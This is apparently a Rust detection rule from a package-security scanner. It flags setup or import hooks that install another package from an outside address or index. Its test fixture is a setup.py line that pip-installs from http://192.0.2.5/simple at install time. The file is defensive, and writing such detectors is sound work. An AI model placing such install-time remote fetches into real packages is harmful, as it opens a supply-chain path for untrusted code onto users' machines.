use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, shown};
use crate::act::ActKind;
use crate::package::Package;

pub(crate) struct InstallsFromElsewhere;

static INFO: RuleInfo = RuleInfo {
    id: "installs-from-elsewhere",
    title: "A hook installs another package from elsewhere",
    severity: Severity::Medium,
    confidence: Confidence::High,
    attack: &["T1195.001", "T1105"],
    explanation: "At installation or import another package is installed from an address, a repository or another \
                  index.",
};

impl Rule for InstallsFromElsewhere {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        let installs = package
            .acts()
            .filter(|act| act.kind == ActKind::InstallOther && package.when(act).by_itself());
        installs
            .map(|act| {
                let clause = format!(
                    "installs another package ({}) {}",
                    shown(&act.text),
                    package.when(act).words()
                );
                Hit::new(Severity::Medium, Confidence::High, clause)
                    .with([package.evidence(act, "here")])
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};
    use super::*;

    #[test]
    fn an_install_from_an_address_is_found_and_one_from_the_registry_is_not() {
        let finding = found(
            "installs-from-elsewhere",
            &[(
                "setup.py",
                "import os\nos.system('pip install --index-url http://192.0.2.5/simple extra')",
            )],
        );
        assert_eq!((finding.severity, line(&finding).1), (Severity::Medium, 2));
        quiet(
            "installs-from-elsewhere",
            &[("setup.py", "import os\nos.system('pip install wheel')")],
        );
    }
}
